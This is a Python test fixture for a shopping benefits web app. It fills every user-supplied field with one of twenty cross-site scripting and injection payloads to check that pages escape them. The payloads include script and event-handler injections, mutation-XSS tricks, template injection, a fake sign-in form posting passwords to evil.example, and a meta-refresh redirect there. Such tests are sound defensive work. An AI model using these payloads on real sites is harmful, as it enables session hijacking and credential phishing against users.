"""A shopper whose every text at Omneo was typed by an attacker."""

from __future__ import annotations

from dataclasses import replace

from claimable_benefits.domain.benefits import Benefit, Definition
from claimable_benefits.domain.policy import Place, Policy
from claimable_benefits.domain.shop import Cart, Line, Shopper
from claimable_benefits.domain.states import DeliveryState, UseState
from claimable_benefits.service.account.history import Entry
from claimable_benefits.service.account.wallet_view import Held, Wallet
from claimable_benefits.service.holds.offers import Applied, Offer, Offers
from claimable_benefits.service.orders.record import OrderRecord
from tests.web.page_data import NOW, PageData, applied, cart, use

PAYLOADS = (
    "<script>window.pwned = 1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<svg onload=window.pwned=1><script>window.pwned=1</script></svg>",
    "<a href='javascript:window.pwned=1' onclick=window.pwned=1>press</a>",
    "<a href='java\tscript:window.pwned=1'>press</a>",
    "<a href='data:text/html,<script>1</script>'>press</a>",
    "<a href='http://plain.example'>press</a><a href='//bare.example'>press</a>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe><object data=x></object><embed src=x>",
    "<style>body { display: none }</style><p style='position:fixed;inset:0'>over everything</p>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=1>'>",
    "</section></main></body><h1>Your session has expired</h1>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    '"><script>window.pwned = 1</script><a title="',
    "' autofocus onfocus=window.pwned=1 x='",
    "{{ 7 * 7 }}{% raw %}{{ config }}",
    "&lt;script&gt;window.pwned = 1&lt;/script&gt;",
    "\x00<scr\x00ipt>window.pwned=1</script>\u202eright to left",
    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=window.pwned=1><template><script>1</script></template>",
)
ALL = " ".join(PAYLOADS)
EVERYWHERE = frozenset(Place)


def hostile(payload: str) -> PageData:
    """Page data in which every text that comes from outside is ``payload``."""
    kind = _definition(payload)
    past = Benefit("past", kind, remaining=0)
    data = PageData(shoppers={"mia": Shopper("mia", name=payload)}, cart=_cart(payload))
    data.wallets["mia"] = Wallet(
        True,
        claimable=(kind, replace(kind, handle=payload)),
        usable=tuple(_held(benefit_id, kind, payload) for benefit_id in ("yours", payload)),
        past=(past,),
        pending_claims=(payload,),
    )
    data.histories["mia"] = tuple(
        Entry(payload, NOW, where, order_number=payload, redemption_id=payload) for where in ("checkout", "store")
    )
    data.offers["mia"] = _offers(payload, kind)
    data.uses["u"] = ("mia", use("u", past, name=payload, code=payload, instructions=payload))
    data.records["1"] = OrderRecord(
        "1",
        benefit_name=payload,
        redemption_id=payload,
        use_state=UseState.CONSUMED,
        delivery_state=DeliveryState.STOPPED,
        transaction_id=payload,
        problem=payload,
        code=payload,
        instructions=payload,
    )
    return data


def _definition(payload: str) -> Definition:
    return Definition(
        id="1",
        handle="kind",
        name=payload,
        short_description=payload,
        long_description=payload,
        terms=payload,
        earn_instructions=payload,
        instructions_online=payload,
        instructions_store=payload,
        code_online=payload,
        code_store=payload,
        image_url=payload,
        type=payload,
        period=3,
        period_type=payload,
        tags=(payload,),
    )


def _held(benefit_id: str, kind: Definition, payload: str) -> Held:
    return Held(Benefit(benefit_id, kind, code_online=payload, code_store=payload), Policy("kind", used_at=EVERYWHERE))


def _offers(payload: str, kind: Definition) -> Offers:
    held: Applied = applied("a", payload, code=payload, instructions=payload)
    other = Offer(Benefit(payload, kind), Policy("kind"), held.discount, held.fit)
    return Offers(applied=held, fitting=(other,), pending=(payload,))


def _cart(payload: str) -> Cart:
    line = cart().lines[0]
    return cart(Line(payload, payload, line.quantity, line.unit_price))
